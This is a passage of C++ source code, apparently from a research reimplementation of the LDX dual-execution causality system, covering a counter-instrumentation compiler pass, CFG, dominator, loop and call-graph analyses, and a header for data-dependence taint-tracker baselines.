            : 0.0;
    }
};

/**
 * Counter instrumentation pass. Mutates the module in place; a module
 * must be instrumented at most once.
 */
class CounterInstrumenter
{
  public:
    explicit CounterInstrumenter(ir::Module &module)
        : module_(module)
    {}

    /** Run the pass over every function; returns the statistics. */
    InstrumentStats run();

    /** Site descriptors indexed by site id (valid after run()). */
    const std::vector<SiteInfo> &sites() const { return sites_; }

    /** Per-function total counter increment (FCNT). */
    const std::map<int, std::int64_t> &fcnt() const { return fcnt_; }

  private:
    void instrumentFunction(ir::Function &fn, InstrumentStats &stats);

    /** Rewrite multi-ret functions to a single exit block. */
    void normalizeSingleExit(ir::Function &fn);

    ir::Module &module_;
    std::vector<SiteInfo> sites_;
    std::map<int, std::int64_t> fcnt_;
    std::vector<bool> recursive_;
    bool ran_ = false;
};

/** True if @p m contains counter opcodes already. */
bool isInstrumented(const ir::Module &m);

} // namespace ldx::instrument
