#include "instrument/instrument.h"

#include <algorithm>
#include <set>

#include "analysis/callgraph.h"
#include "analysis/cfg.h"
#include "analysis/loops.h"
#include "ir/builder.h"
#include "support/diag.h"

namespace ldx::instrument {

namespace {

/** Ordered edge key. */
using EdgeKey = std::pair<int, int>;

ir::Instr
makeCntAdd(std::int64_t delta)
{
    ir::Instr i;
    i.op = ir::Opcode::CntAdd;
    i.imm = delta;
    return i;
}

} // namespace

bool
isInstrumented(const ir::Module &m)
{
    for (std::size_t f = 0; f < m.numFunctions(); ++f) {
        const ir::Function &fn = m.function(static_cast<int>(f));
        for (std::size_t b = 0; b < fn.numBlocks(); ++b) {
            for (const ir::Instr &instr :
                 fn.block(static_cast<int>(b)).instrs()) {
                switch (instr.op) {
                  case ir::Opcode::CntAdd:
                  case ir::Opcode::SyncBarrier:
                  case ir::Opcode::CntPush:
                  case ir::Opcode::CntPop:
                    return true;
                  default:
                    break;
                }
            }
        }
    }
    return false;
}

InstrumentStats
CounterInstrumenter::run()
{
    checkInvariant(!ran_, "CounterInstrumenter::run called twice");
    ran_ = true;
    if (isInstrumented(module_))
        fatal("module is already instrumented");

    InstrumentStats stats;
    for (std::size_t f = 0; f < module_.numFunctions(); ++f) {
        const ir::Function &fn = module_.function(static_cast<int>(f));
        for (std::size_t b = 0; b < fn.numBlocks(); ++b)
            stats.originalInstrs +=
                fn.block(static_cast<int>(b)).instrs().size();
    }

    analysis::CallGraph cg(module_);
    recursive_.assign(module_.numFunctions(), false);
    for (std::size_t f = 0; f < module_.numFunctions(); ++f) {
        recursive_[f] = cg.isRecursive(static_cast<int>(f));
        if (recursive_[f])
            ++stats.recursiveFunctions;
    }

    // Reverse topological call-graph order: callees first
    // (InstrumentProg, Algorithm 1).
    for (int f : cg.reverseTopoOrder())
        instrumentFunction(module_.function(f), stats);

    int main_fn = module_.mainFunction();
    if (main_fn >= 0)
        stats.maxStaticCnt = fcnt_[main_fn];
    return stats;
}

void
CounterInstrumenter::normalizeSingleExit(ir::Function &fn)
{
    std::vector<int> ret_blocks;
    for (std::size_t b = 0; b < fn.numBlocks(); ++b) {
        if (fn.block(static_cast<int>(b)).terminator().op ==
            ir::Opcode::Ret)
            ret_blocks.push_back(static_cast<int>(b));
    }
    if (ret_blocks.size() <= 1)
        return;

    int ret_reg = fn.newReg();
    ir::BasicBlock &exit = fn.newBlock();
    {
        ir::Instr ret;
        ret.op = ir::Opcode::Ret;
        ret.a = ir::Operand::makeReg(ret_reg);
        exit.instrs().push_back(ret);
    }
    for (int b : ret_blocks) {
        ir::Instr &old = fn.block(b).terminator();
        ir::Instr move;
        move.op = ir::Opcode::Move;
        move.dst = ret_reg;
        move.a = old.a.isNone() ? ir::Operand::makeImm(0) : old.a;
        move.loc = old.loc;
        ir::Instr br;
        br.op = ir::Opcode::Br;
        br.target0 = exit.id();
        br.loc = old.loc;
        old = move;
        fn.block(b).instrs().push_back(br);
    }
}

void
CounterInstrumenter::instrumentFunction(ir::Function &fn,
                                        InstrumentStats &stats)
{
    normalizeSingleExit(fn);

    // ------------------------------------------------ in-block pass
    // Insert cnt += 1 before each syscall, push/pop around indirect
    // and recursive calls, and compute per-block static increments.
    std::vector<std::int64_t> inc(fn.numBlocks(), 0);
    // "Active" blocks contain counter-relevant work: syscalls, calls
    // with nonzero FCNT, or push/pop sites. Loops whose bodies have no
    // active block need no barriers (§5: "we only need to instrument
    // loops that include syscalls"), which keeps hot compute loops
    // free of synchronization.
    std::vector<bool> active(fn.numBlocks(), false);
    for (std::size_t b = 0; b < fn.numBlocks(); ++b) {
        auto &instrs = fn.block(static_cast<int>(b)).instrs();
        std::vector<ir::Instr> out;
        out.reserve(instrs.size() + 4);
        for (ir::Instr &instr : instrs) {
            switch (instr.op) {
              case ir::Opcode::Syscall: {
                ir::Instr add = makeCntAdd(1);
                add.loc = instr.loc;
                out.push_back(add);
                ++stats.insertedOps;
                instr.site = static_cast<int>(sites_.size());
                SiteInfo site;
                site.id = instr.site;
                site.fn = fn.id();
                site.sysNo = instr.imm;
                site.loc = instr.loc;
                sites_.push_back(site);
                ++stats.syscallSites;
                inc[b] += 1;
                active[b] = true;
                out.push_back(std::move(instr));
                break;
              }
              case ir::Opcode::Call: {
                bool rec = recursive_[static_cast<std::size_t>(
                    instr.callee)];
                if (rec) {
                    // The call region consumes one unit of caller
                    // progress. Without this, two calls made at the
                    // same caller counter value push identical outer
                    // counters and the hierarchical comparison (§6)
                    // cannot tell the frames apart — a side still in
                    // the first frame then looks "passed" to a peer
                    // already in the second.
                    ir::Instr add = makeCntAdd(1);
                    add.loc = instr.loc;
                    out.push_back(add);
                    inc[b] += 1;
                    ir::Instr push;
                    push.op = ir::Opcode::CntPush;
                    push.loc = instr.loc;
                    ir::Instr pop;
                    pop.op = ir::Opcode::CntPop;
                    pop.loc = instr.loc;
                    out.push_back(push);
                    out.push_back(std::move(instr));
                    out.push_back(pop);
                    stats.insertedOps += 3;
                    active[b] = true;
                } else {
                    inc[b] += fcnt_[instr.callee];
                    if (fcnt_[instr.callee] > 0)
                        active[b] = true;
                    out.push_back(std::move(instr));
                }
                break;
              }
              case ir::Opcode::ICall: {
                // Same caller-progress bump as the recursive case
                // above: the saved outer counter must be unique per
                // dynamic call occurrence.
                ir::Instr add = makeCntAdd(1);
                add.loc = instr.loc;
                out.push_back(add);
                inc[b] += 1;
                ir::Instr push;
                push.op = ir::Opcode::CntPush;
                push.loc = instr.loc;
                ir::Instr pop;
                pop.op = ir::Opcode::CntPop;
                pop.loc = instr.loc;
                out.push_back(push);
                out.push_back(std::move(instr));
                out.push_back(pop);
                stats.insertedOps += 3;
                ++stats.indirectCallSites;
                active[b] = true;
                break;
              }
              default:
                out.push_back(std::move(instr));
                break;
            }
        }
        instrs = std::move(out);
    }

    // --------------------------------------------------- loop shape
    analysis::DiGraph cfg = analysis::buildCfg(fn);
    analysis::LoopInfo loops(cfg, ir::Function::entryBlockId);

    std::set<EdgeKey> back_edges;
    std::map<EdgeKey, int> back_edge_header; // edge -> header block
    std::set<EdgeKey> barrier_edges;         // back edges needing sync
    for (const analysis::Loop &loop : loops.loops()) {
        bool loop_active = false;
        for (std::size_t b = 0; b < fn.numBlocks() &&
                                b < loop.body.size();
             ++b) {
            if (loop.body[b] && active[b])
                loop_active = true;
        }
        if (loop_active)
            ++stats.loops;
        for (int latch : loop.latches) {
            back_edges.insert({latch, loop.header});
            back_edge_header[{latch, loop.header}] = loop.header;
            if (loop_active)
                barrier_edges.insert({latch, loop.header});
        }
    }
    std::set<EdgeKey> exit_edges;
    std::set<EdgeKey> dummy_edges;
    for (const analysis::Loop &loop : loops.loops()) {
        for (const analysis::Edge &e : loop.exitEdges) {
            if (back_edges.count({e.from, e.to}))
                continue; // back-edge classification wins
            exit_edges.insert({e.from, e.to});
            for (int latch : loop.latches)
                dummy_edges.insert({latch, e.to});
        }
    }

    // Acyclic graph: original edges minus back/exit edges plus dummies.
    analysis::DiGraph acyclic(cfg.numNodes());
    for (int u = 0; u < cfg.numNodes(); ++u) {
        for (int v : cfg.succ[u]) {
            EdgeKey key{u, v};
            if (!back_edges.count(key) && !exit_edges.count(key))
                acyclic.addEdge(u, v);
        }
    }
    for (const EdgeKey &e : dummy_edges) {
        if (!acyclic.hasEdge(e.first, e.second))
            acyclic.addEdge(e.first, e.second);
    }

    auto order = analysis::topoOrder(acyclic);
    checkInvariant(order.has_value(),
                   "loop removal left a cycle in " + fn.name());

    // -------------------------------------- static counter values
    std::vector<std::int64_t> cnt_in(fn.numBlocks(), 0);
    std::vector<std::int64_t> cnt_out(fn.numBlocks(), 0);
    auto preds = acyclic.predecessors();
    for (int n : *order) {
        std::int64_t v = 0;
        for (int p : preds[static_cast<std::size_t>(n)])
            v = std::max(v, cnt_out[static_cast<std::size_t>(p)]);
        cnt_in[static_cast<std::size_t>(n)] = v;
        cnt_out[static_cast<std::size_t>(n)] =
            v + inc[static_cast<std::size_t>(n)];
    }

    // ------------------------------------------ edge instrumentation
    struct EdgeWork
    {
        int from;
        int to;
        bool barrier;
        std::int64_t delta;
    };
    std::vector<EdgeWork> work;
    for (int u = 0; u < cfg.numNodes(); ++u) {
        for (int v : cfg.succ[u]) {
            EdgeKey key{u, v};
            std::int64_t delta = cnt_in[static_cast<std::size_t>(v)] -
                                 cnt_out[static_cast<std::size_t>(u)];
            if (back_edges.count(key)) {
                int header = back_edge_header[key];
                std::int64_t reset =
                    cnt_in[static_cast<std::size_t>(header)] -
                    cnt_out[static_cast<std::size_t>(u)];
                if (barrier_edges.count(key))
                    work.push_back({u, v, true, reset});
                else if (reset != 0)
                    work.push_back({u, v, false, reset});
            } else if (delta != 0) {
                work.push_back({u, v, false, delta});
            }
        }
    }

    for (const EdgeWork &w : work) {
        // Split the edge: new block with the compensation code.
        ir::BasicBlock &split = fn.newBlock();
        if (w.barrier) {
            ir::Instr sync;
            sync.op = ir::Opcode::SyncBarrier;
            sync.imm = static_cast<std::int64_t>(sites_.size());
            sync.a = ir::Operand::makeImm(w.delta);
            sync.site = static_cast<int>(sites_.size());
            SiteInfo site;
            site.id = sync.site;
            site.fn = fn.id();
            site.isBarrier = true;
            sites_.push_back(site);
            split.instrs().push_back(sync);
            ++stats.insertedOps;
        } else {
            split.instrs().push_back(makeCntAdd(w.delta));
            ++stats.insertedOps;
        }
        ir::Instr br;
        br.op = ir::Opcode::Br;
        br.target0 = w.to;
        split.instrs().push_back(br);

        ir::Instr &term = fn.block(w.from).terminator();
        if (term.op == ir::Opcode::Br) {
            term.target0 = split.id();
        } else if (term.op == ir::Opcode::CondBr) {
            if (term.target0 == w.to)
                term.target0 = split.id();
            if (term.target1 == w.to)
                term.target1 = split.id();
        } else {
            panic("edge from a non-branch terminator");
        }
    }

    // FCNT: total increment along any path (single exit block).
    int exit_block = -1;
    for (std::size_t b = 0; b < fn.numBlocks(); ++b) {
        if (fn.block(static_cast<int>(b)).terminator().op ==
            ir::Opcode::Ret) {
            checkInvariant(exit_block < 0,
                           "multiple exits after normalization");
            exit_block = static_cast<int>(b);
        }
    }
    checkInvariant(exit_block >= 0, "function without a ret block");
    fcnt_[fn.id()] = cnt_out[static_cast<std::size_t>(exit_block)];
}

} // namespace ldx::instrument
