#include "analysis/loops.h"

#include <algorithm>
#include <map>

#include "support/diag.h"

namespace ldx::analysis {

LoopInfo::LoopInfo(const DiGraph &g, int entry)
    : innermost_(g.numNodes(), -1)
{
    DominatorTree dom(g, entry);
    auto preds = g.predecessors();

    // Collect back edges per header (a back edge u->h has h dom u).
    std::map<int, std::vector<int>> latches_of;
    for (int u = 0; u < g.numNodes(); ++u) {
        if (!dom.reachable(u))
            continue;
        for (int v : g.succ[u]) {
            if (dom.dominates(v, u))
                latches_of[v].push_back(u);
        }
    }

    // Irreducibility check: removing all dominance back edges must
    // leave an acyclic graph over the reachable nodes.
    {
        DiGraph acyclic(g.numNodes());
        for (int u = 0; u < g.numNodes(); ++u) {
            if (!dom.reachable(u))
                continue;
            for (int v : g.succ[u]) {
                if (!dom.dominates(v, u))
                    acyclic.addEdge(u, v);
            }
        }
        if (!topoOrder(acyclic))
            fatal("irreducible control flow is not supported");
    }

    // Natural loop of each header: header + nodes that reach a latch
    // without passing through the header.
    for (auto &[header, latches] : latches_of) {
        Loop loop;
        loop.header = header;
        loop.latches = latches;
        loop.body.assign(g.numNodes(), false);
        loop.body[header] = true;
        std::vector<int> work;
        for (int latch : latches) {
            if (!loop.body[latch]) {
                loop.body[latch] = true;
                work.push_back(latch);
            }
        }
        while (!work.empty()) {
            int u = work.back();
            work.pop_back();
            for (int p : preds[u]) {
                if (dom.reachable(p) && !loop.body[p]) {
                    loop.body[p] = true;
                    work.push_back(p);
                }
            }
        }
        for (int u = 0; u < g.numNodes(); ++u) {
            if (!loop.body[u])
                continue;
            for (int v : g.succ[u]) {
                if (!loop.body[v])
                    loop.exitEdges.push_back(Edge{u, v});
            }
        }
        loops_.push_back(std::move(loop));
    }

    // Nesting: loop A is the parent of B if A's body strictly contains
    // B's header and A != B. Choose the smallest such container.
    auto body_size = [&](const Loop &l) {
        return std::count(l.body.begin(), l.body.end(), true);
    };
    for (std::size_t i = 0; i < loops_.size(); ++i) {
        long best_size = -1;
        for (std::size_t j = 0; j < loops_.size(); ++j) {
            if (i == j)
                continue;
            if (loops_[j].body[loops_[i].header] &&
                loops_[j].header != loops_[i].header) {
                long sz = body_size(loops_[j]);
                if (best_size < 0 || sz < best_size) {
                    best_size = sz;
                    loops_[i].parent = static_cast<int>(j);
                }
            }
        }
    }
    for (auto &loop : loops_) {
        int d = 1;
        for (int p = loop.parent; p >= 0; p = loops_[p].parent)
            ++d;
        loop.depth = d;
    }

    // Innermost loop per node: deepest loop whose body contains it.
    for (int u = 0; u < g.numNodes(); ++u) {
        int best = -1;
        for (std::size_t i = 0; i < loops_.size(); ++i) {
            if (loops_[i].body[u] &&
                (best < 0 || loops_[i].depth > loops_[best].depth))
                best = static_cast<int>(i);
        }
        innermost_[u] = best;
    }
}

std::vector<Edge>
LoopInfo::backEdges() const
{
    std::vector<Edge> edges;
    for (const Loop &loop : loops_) {
        for (int latch : loop.latches)
            edges.push_back(Edge{latch, loop.header});
    }
    return edges;
}

} // namespace ldx::analysis
