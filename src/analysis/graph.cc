#include "analysis/graph.h"

#include <algorithm>
#include <functional>

namespace ldx::analysis {

bool
DiGraph::removeEdge(int from, int to)
{
    auto &v = succ[from];
    auto it = std::find(v.begin(), v.end(), to);
    if (it == v.end())
        return false;
    v.erase(it);
    return true;
}

bool
DiGraph::hasEdge(int from, int to) const
{
    const auto &v = succ[from];
    return std::find(v.begin(), v.end(), to) != v.end();
}

std::vector<std::vector<int>>
DiGraph::predecessors() const
{
    std::vector<std::vector<int>> preds(succ.size());
    for (int u = 0; u < numNodes(); ++u) {
        for (int v : succ[u])
            preds[v].push_back(u);
    }
    return preds;
}

std::optional<std::vector<int>>
topoOrder(const DiGraph &g)
{
    int n = g.numNodes();
    std::vector<int> indeg(n, 0);
    for (int u = 0; u < n; ++u) {
        for (int v : g.succ[u])
            ++indeg[v];
    }
    std::vector<int> work;
    for (int u = 0; u < n; ++u) {
        if (indeg[u] == 0)
            work.push_back(u);
    }
    std::vector<int> order;
    order.reserve(n);
    for (std::size_t i = 0; i < work.size(); ++i) {
        int u = work[i];
        order.push_back(u);
        for (int v : g.succ[u]) {
            if (--indeg[v] == 0)
                work.push_back(v);
        }
    }
    if (static_cast<int>(order.size()) != n)
        return std::nullopt; // cycle
    return order;
}

std::vector<int>
reversePostOrder(const DiGraph &g, int entry)
{
    std::vector<int> post;
    std::vector<char> state(g.numNodes(), 0);
    // Iterative DFS computing postorder.
    std::vector<std::pair<int, std::size_t>> stack;
    stack.emplace_back(entry, 0);
    state[entry] = 1;
    while (!stack.empty()) {
        auto &[u, idx] = stack.back();
        if (idx < g.succ[u].size()) {
            int v = g.succ[u][idx++];
            if (!state[v]) {
                state[v] = 1;
                stack.emplace_back(v, 0);
            }
        } else {
            post.push_back(u);
            stack.pop_back();
        }
    }
    std::reverse(post.begin(), post.end());
    return post;
}

std::vector<bool>
reachableFrom(const DiGraph &g, int entry)
{
    std::vector<bool> seen(g.numNodes(), false);
    std::vector<int> work{entry};
    seen[entry] = true;
    while (!work.empty()) {
        int u = work.back();
        work.pop_back();
        for (int v : g.succ[u]) {
            if (!seen[v]) {
                seen[v] = true;
                work.push_back(v);
            }
        }
    }
    return seen;
}

} // namespace ldx::analysis
