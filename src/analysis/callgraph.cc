#include "analysis/callgraph.h"

#include <algorithm>
#include <functional>

namespace ldx::analysis {

CallGraph::CallGraph(const ir::Module &m)
{
    int n = static_cast<int>(m.numFunctions());
    callees_.resize(n);
    recursive_.assign(n, false);
    scc_.assign(n, -1);

    for (int f = 0; f < n; ++f) {
        const ir::Function &fn = m.function(f);
        for (std::size_t b = 0; b < fn.numBlocks(); ++b) {
            for (const ir::Instr &instr :
                 fn.block(static_cast<int>(b)).instrs()) {
                if (instr.op == ir::Opcode::Call) {
                    auto &v = callees_[f];
                    if (std::find(v.begin(), v.end(), instr.callee) ==
                        v.end())
                        v.push_back(instr.callee);
                    if (instr.callee == f)
                        recursive_[f] = true;
                }
            }
        }
    }

    // Tarjan SCC (iterative to survive deep call chains).
    std::vector<int> index(n, -1), low(n, 0);
    std::vector<bool> on_stack(n, false);
    std::vector<int> stack;
    int next_index = 0;
    int next_scc = 0;
    std::vector<std::vector<int>> scc_members;

    struct Frame { int node; std::size_t child; };
    for (int root = 0; root < n; ++root) {
        if (index[root] != -1)
            continue;
        std::vector<Frame> frames{{root, 0}};
        index[root] = low[root] = next_index++;
        stack.push_back(root);
        on_stack[root] = true;
        while (!frames.empty()) {
            Frame &fr = frames.back();
            int u = fr.node;
            if (fr.child < callees_[u].size()) {
                int v = callees_[u][fr.child++];
                if (index[v] == -1) {
                    index[v] = low[v] = next_index++;
                    stack.push_back(v);
                    on_stack[v] = true;
                    frames.push_back({v, 0});
                } else if (on_stack[v]) {
                    low[u] = std::min(low[u], index[v]);
                }
            } else {
                if (low[u] == index[u]) {
                    std::vector<int> members;
                    int w;
                    do {
                        w = stack.back();
                        stack.pop_back();
                        on_stack[w] = false;
                        scc_[w] = next_scc;
                        members.push_back(w);
                    } while (w != u);
                    scc_members.push_back(std::move(members));
                    ++next_scc;
                }
                frames.pop_back();
                if (!frames.empty()) {
                    int parent = frames.back().node;
                    low[parent] = std::min(low[parent], low[u]);
                }
            }
        }
    }

    // Mark SCCs of size > 1 as recursive.
    for (const auto &members : scc_members) {
        if (members.size() > 1) {
            for (int f : members)
                recursive_[f] = true;
        }
    }

    // Tarjan emits SCCs in reverse topological order already
    // (callees' SCCs complete before callers'). Flatten.
    for (const auto &members : scc_members) {
        for (int f : members)
            order_.push_back(f);
    }
}

} // namespace ldx::analysis
