/**
 * @file
 * Call graph with SCC condensation. InstrumentProg (Algorithm 1)
 * visits functions in reverse topological call-graph order so callee
 * FCNT values are known; functions inside a nontrivial SCC (or with a
 * self edge) are recursive and their call sites are treated like
 * indirect calls (§6: counter push/reset/pop).
 */
#pragma once

#include <vector>

#include "ir/ir.h"

namespace ldx::analysis {

/** Static call graph over the functions of a module. */
class CallGraph
{
  public:
    explicit CallGraph(const ir::Module &m);

    /** Direct callees of function @p f (no duplicates). */
    const std::vector<int> &callees(int f) const { return callees_[f]; }

    /** True if @p f participates in recursion (SCC > 1 or self edge). */
    bool isRecursive(int f) const { return recursive_[f]; }

    /** SCC index of @p f (condensation node). */
    int sccOf(int f) const { return scc_[f]; }

    /**
     * Function ids in reverse topological order of the SCC DAG:
     * callees before callers. Functions in the same SCC appear in
     * arbitrary relative order (their FCNT is not used anyway).
     */
    const std::vector<int> &reverseTopoOrder() const { return order_; }

  private:
    std::vector<std::vector<int>> callees_;
    std::vector<bool> recursive_;
    std::vector<int> scc_;
    std::vector<int> order_;
};

} // namespace ldx::analysis
