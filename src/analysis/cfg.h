/**
 * @file
 * Bridge from IR functions to the analysis DiGraph form.
 */
#pragma once

#include "analysis/graph.h"
#include "ir/ir.h"

namespace ldx::analysis {

/** Build the CFG digraph of @p fn (nodes are block ids). */
inline DiGraph
buildCfg(const ir::Function &fn)
{
    DiGraph g(static_cast<int>(fn.numBlocks()));
    for (std::size_t b = 0; b < fn.numBlocks(); ++b) {
        for (int succ : fn.block(static_cast<int>(b)).successors())
            g.addEdge(static_cast<int>(b), succ);
    }
    return g;
}

} // namespace ldx::analysis
