/**
 * @file
 * Lightweight directed-graph helpers used by the CFG analyses and by
 * the instrumenter, which must topologically sort a *modified* CFG
 * (loop edges removed, dummy edges added — Algorithm 3).
 */
#pragma once

#include <optional>
#include <vector>

namespace ldx::analysis {

/** Adjacency-list digraph over nodes 0..n-1. */
struct DiGraph
{
    explicit DiGraph(int n)
        : succ(n)
    {}

    int numNodes() const { return static_cast<int>(succ.size()); }

    void
    addEdge(int from, int to)
    {
        succ[from].push_back(to);
    }

    /** Remove one instance of edge from→to; returns true if present. */
    bool removeEdge(int from, int to);

    /** True if the edge exists. */
    bool hasEdge(int from, int to) const;

    /** Predecessor lists. */
    std::vector<std::vector<int>> predecessors() const;

    std::vector<std::vector<int>> succ;
};

/**
 * Kahn topological sort. Returns std::nullopt when the graph has a
 * cycle. Nodes unreachable from anywhere still appear in the order.
 */
std::optional<std::vector<int>> topoOrder(const DiGraph &g);

/** Reverse postorder from @p entry (standard CFG iteration order). */
std::vector<int> reversePostOrder(const DiGraph &g, int entry);

/** Nodes reachable from @p entry. */
std::vector<bool> reachableFrom(const DiGraph &g, int entry);

} // namespace ldx::analysis
