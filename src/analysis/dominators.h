/**
 * @file
 * Dominator tree over a function CFG (Cooper-Harvey-Kennedy iterative
 * algorithm). Used to identify natural-loop back edges.
 */
#pragma once

#include <vector>

#include "analysis/graph.h"

namespace ldx::analysis {

/** Immediate-dominator table for a CFG rooted at @p entry. */
class DominatorTree
{
  public:
    /** Build for @p g rooted at @p entry. */
    DominatorTree(const DiGraph &g, int entry);

    /** Immediate dominator of @p node (-1 for the entry / unreachable). */
    int idom(int node) const { return idom_[node]; }

    /** True if @p a dominates @p b (reflexive). */
    bool dominates(int a, int b) const;

    /** True if @p node is reachable from the entry. */
    bool reachable(int node) const { return reachable_[node]; }

    int entry() const { return entry_; }

  private:
    int entry_;
    std::vector<int> idom_;
    std::vector<bool> reachable_;
};

} // namespace ldx::analysis
