#include "analysis/dominators.h"

#include <algorithm>

namespace ldx::analysis {

DominatorTree::DominatorTree(const DiGraph &g, int entry)
    : entry_(entry), idom_(g.numNodes(), -1), reachable_(g.numNodes(), false)
{
    std::vector<int> rpo = reversePostOrder(g, entry);
    std::vector<int> rpo_index(g.numNodes(), -1);
    for (std::size_t i = 0; i < rpo.size(); ++i) {
        rpo_index[rpo[i]] = static_cast<int>(i);
        reachable_[rpo[i]] = true;
    }
    auto preds = g.predecessors();

    auto intersect = [&](int a, int b) {
        while (a != b) {
            while (rpo_index[a] > rpo_index[b])
                a = idom_[a];
            while (rpo_index[b] > rpo_index[a])
                b = idom_[b];
        }
        return a;
    };

    idom_[entry] = entry;
    bool changed = true;
    while (changed) {
        changed = false;
        for (int node : rpo) {
            if (node == entry)
                continue;
            int new_idom = -1;
            for (int p : preds[node]) {
                if (!reachable_[p] || idom_[p] < 0)
                    continue;
                new_idom = new_idom < 0 ? p : intersect(new_idom, p);
            }
            if (new_idom >= 0 && idom_[node] != new_idom) {
                idom_[node] = new_idom;
                changed = true;
            }
        }
    }
    idom_[entry] = -1; // canonical: entry has no idom
}

bool
DominatorTree::dominates(int a, int b) const
{
    if (!reachable_[a] || !reachable_[b])
        return false;
    int cur = b;
    while (cur != -1) {
        if (cur == a)
            return true;
        cur = idom_[cur];
    }
    return false;
}

} // namespace ldx::analysis
