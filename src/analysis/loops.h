/**
 * @file
 * Natural-loop detection. Algorithm 3 of the paper instruments back
 * edges (barrier + counter reset) and loop exit edges (counter raise),
 * so the instrumenter needs headers, latches, bodies and exit edges.
 *
 * Only reducible CFGs are supported: every retreating edge must target
 * a node that dominates its source. The MiniC frontend only emits
 * reducible control flow; hand-built irreducible IR is rejected.
 */
#pragma once

#include <vector>

#include "analysis/dominators.h"
#include "analysis/graph.h"

namespace ldx::analysis {

/** A CFG edge. */
struct Edge
{
    int from = -1;
    int to = -1;

    bool
    operator==(const Edge &o) const
    {
        return from == o.from && to == o.to;
    }
};

/** One natural loop. */
struct Loop
{
    int header = -1;
    std::vector<int> latches;    ///< sources of back edges to header
    std::vector<bool> body;      ///< membership bitmap (includes header)
    std::vector<Edge> exitEdges; ///< edges from body to outside
    int parent = -1;             ///< index of enclosing loop, -1 if top
    int depth = 1;               ///< nesting depth (outermost = 1)

    bool contains(int node) const { return body[node]; }
};

/** Loop forest of a function CFG. */
class LoopInfo
{
  public:
    /**
     * Build from @p g rooted at @p entry.
     * @throws ldx::FatalError on irreducible control flow.
     */
    LoopInfo(const DiGraph &g, int entry);

    const std::vector<Loop> &loops() const { return loops_; }

    /** All back edges (latch -> header). */
    std::vector<Edge> backEdges() const;

    /** Index of the innermost loop containing @p node, or -1. */
    int innermostLoop(int node) const { return innermost_[node]; }

  private:
    std::vector<Loop> loops_;
    std::vector<int> innermost_;
};

} // namespace ldx::analysis
