/**
 * @file
 * Instruction-level dynamic taint trackers — the baselines LDX is
 * compared against in Table 3.
 *
 * Both baselines propagate taint along *data dependences only*, which
 * is exactly why they miss the control-dependence-induced strong
 * causalities LDX detects (§2, §8.3). They differ in library-call
 * modeling completeness:
 *
 *  - TaintPolicy::libdft(): models the block-copy routines but lacks
 *    models for the string/number conversion routines (atoi, itoa,
 *    strcat, strcmp, strlen) — mirroring the paper's observation that
 *    "LIBDFT does not correctly model taint propagation for some
 *    library calls", which makes its tainted-sink set a subset of
 *    TaintGrind's.
 *  - TaintPolicy::taintgrind(): complete data-dependence models.
 *  - TaintPolicy::controlAugmented(): TaintGrind plus naive control
 *    dependence propagation (every write inside a tainted branch
 *    region inherits the predicate's taint) — the ablation showing
 *    the weak-causality explosion (Bao et al. discussion in §2).
 */
#pragma once

#include <cstdint>
#include <functional>
#include <map>
#include <memory>
#include <string>
#include <vector>

#include "ir/ir.h"
#include "ldx/mutation.h"
#include "os/world.h"
#include "taint/shadow.h"
#include "vm/hooks.h"
#include "vm/machine.h"

namespace ldx::taint {

/** Library-modeling and propagation policy. */
struct TaintPolicy
{
    bool modelMemcpy = true;
    bool modelMemset = true;
    bool modelStrcpy = true;
    bool modelStrlen = true;
    bool modelStrcmp = true;
    bool modelStrcat = true;
    bool modelAtoi = true;
    bool modelItoa = true;
    bool trackControlDeps = false;

    /** LIBDFT model: misses string/number conversion routines. */
    static TaintPolicy
    libdft()
    {
        TaintPolicy p;
        p.modelStrlen = false;
        p.modelStrcmp = false;
        p.modelStrcat = false;
        p.modelAtoi = false;
        p.modelItoa = false;
        return p;
    }

    /** TaintGrind model: complete data-dependence propagation. */
    static TaintPolicy
    taintgrind()
    {
        return TaintPolicy{};
    }

    /** TaintGrind plus naive control-dependence propagation. */
    static TaintPolicy
    controlAugmented()
    {
        TaintPolicy p;
        p.trackControlDeps = true;
        return p;
    }
};

/** A sink event that carried taint. */
struct TaintedSinkEvent
{
    enum class Kind { Output, RetToken, AllocSize };

    Kind kind = Kind::Output;
    int site = -1;
    std::int64_t sysNo = -1;
    LabelSet labels = 0;
    std::string channel;
    ir::SourceLoc loc;
};

/** Exec/Sink hook implementing shadow propagation. */
class TaintTracker : public vm::ExecHook, public vm::SinkHook
{
  public:
    /**
     * @param module   the program (used for postdominator regions)
     * @param policy   propagation policy
     * @param sources  taint sources (same specs the engine mutates)
     * @param sink_channel  predicate over output channels
     */
    TaintTracker(const ir::Module &module, TaintPolicy policy,
                 std::vector<core::SourceSpec> sources,
                 std::function<bool(const std::string &)> sink_channel);

    // ---- vm::ExecHook ----
    void onInstr(int tid, const ir::Instr &instr, std::uint64_t addr,
                 std::int64_t value, vm::Machine &vm) override;
    void onCall(int tid, const ir::Instr &call_instr, int callee,
                const std::vector<std::int64_t> &args,
                vm::Machine &vm) override;
    void onRet(int tid, const ir::Instr &ret_instr, int ret_reg,
               std::int64_t ret_value, vm::Machine &vm) override;
    void onSyscall(const vm::SyscallRequest &req, const os::Outcome &out,
                   vm::Machine &vm) override;
    void onBranch(int tid, const ir::Instr &instr, int taken,
                  vm::Machine &vm) override;
    void onBlockEnter(int tid, int fn, int block, vm::Machine &vm)
        override;

    // ---- vm::SinkHook ----
    void onRetToken(int tid, std::uint64_t token_addr, std::int64_t token,
                    std::int64_t expected, vm::Machine &vm) override;
    void onAllocSize(int tid, std::int64_t size, vm::Machine &vm) override;

    // ---- results ----
    const std::vector<TaintedSinkEvent> &
    taintedSinks() const
    {
        return tainted_;
    }

    std::uint64_t totalSinkEvents() const { return totalSinks_; }
    std::size_t taintedBytes() const { return shadow_.taintedBytes(); }

    /** Enable VM-level sinks (vulnerable program set). */
    void setRetTokenSinks(bool v) { retTokenSinks_ = v; }
    void setAllocSizeSinks(bool v) { allocSizeSinks_ = v; }

  private:
    LabelSet operandTaint(int tid, const ir::Operand &op) const;
    std::int64_t operandValue(const ir::Operand &op,
                              const vm::Machine &vm, int tid) const;
    LabelSet controlTaint(int tid) const;
    void write(int tid, int reg, LabelSet labels);
    void recordSink(TaintedSinkEvent evt);

    const ir::Module &module_;
    TaintPolicy policy_;
    std::vector<core::SourceSpec> sources_;
    std::function<bool(const std::string &)> sinkChannel_;

    ShadowState shadow_;
    std::uint64_t totalSinks_ = 0;
    std::vector<TaintedSinkEvent> tainted_;
    bool retTokenSinks_ = false;
    bool allocSizeSinks_ = false;

    // Control-dependence regions: per thread, a stack of active
    // tainted branch scopes closed at the branch block's immediate
    // postdominator.
    struct ControlScope
    {
        std::size_t frameDepth;
        int fn;
        int joinBlock;
